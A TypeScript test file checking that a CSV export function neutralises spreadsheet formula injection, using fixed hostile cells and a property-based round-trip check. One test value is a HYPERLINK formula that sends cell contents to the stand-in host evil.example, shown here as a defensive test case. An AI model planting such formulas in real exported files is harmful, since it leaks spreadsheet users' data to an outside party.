import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { csvLine } from '../../../src/api/csv.ts';

/** Reads one line as RFC 4180 says, written apart from the code. */
function read(line: string): string[] {
  assert.ok(line.endsWith('\r\n'));
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map(([, cell = '']) =>
    cell.replaceAll('""', '"'),
  );
}

test('what a spreadsheet would take for a formula becomes text', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    ...['+12025550143', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '\u00a0+1'],
  ];
  for (const cell of hostile) assert.deepEqual(read(csvLine([cell])), [`'${cell}`]);
});

test('all else is read back as it was, whatever is in it', () => {
  const cells = fc.array(fc.string({ unit: 'binary', maxLength: 12 }), {
    minLength: 1,
    maxLength: 5,
  });
  fc.assert(
    fc.property(cells, (texts) => {
      const back = read(csvLine(texts));
      assert.deepEqual(
        back.map((cell, nth) => (cell === `'${texts[nth]}` ? texts[nth] : cell)),
        texts,
      );
      for (const cell of back) assert.doesNotMatch(cell, /^[=+\-@\t\r\n]/);
    }),
  );
});
